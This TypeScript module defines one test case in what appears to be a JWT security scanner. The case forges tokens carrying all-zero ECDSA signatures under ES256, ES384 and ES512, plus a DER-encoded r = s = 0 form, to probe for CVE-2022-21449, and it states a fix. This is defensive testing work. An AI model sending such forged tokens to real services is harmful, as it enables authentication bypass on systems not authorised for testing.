import { forgeryAttack } from './forgery-attack.ts'
import { compact, signingInput } from './jwt.ts'

export const zeroSignature = forgeryAttack({
  id: 'zero-signature',
  number: 35,
  severity: 'critical',
  cwe: 347,
  title: 'An ECDSA signature of zeros is taken',
  references: ['OWASP API2:2023', 'CVE-2022-21449', 'RFC 8725 section 3.2', 'ASVS 5.0 9.1.1'],
  tokens: 4,
  oracle: 'The real claims under an elliptic-curve algorithm with r = s = 0 are answered as the real token is.',
  fix: 'Bring the runtime and the library up to date, and verify with the one algorithm that the key is for.',
  forge: ({ jwt }) =>
    (
      [
        ['ES256', Buffer.alloc(64)],
        ['ES384', Buffer.alloc(96)],
        ['ES512', Buffer.alloc(132)],
        // The same two zeros as DER.
        ['ES256', Buffer.from('3006020100020100', 'hex')],
      ] as const
    ).map(([alg, zeros]) => ({
      told: `under ${alg} with ${zeros.length} bytes that say r = s = 0`,
      token: compact(signingInput({ ...jwt.header, alg }, jwt.claims), zeros),
    })),
})
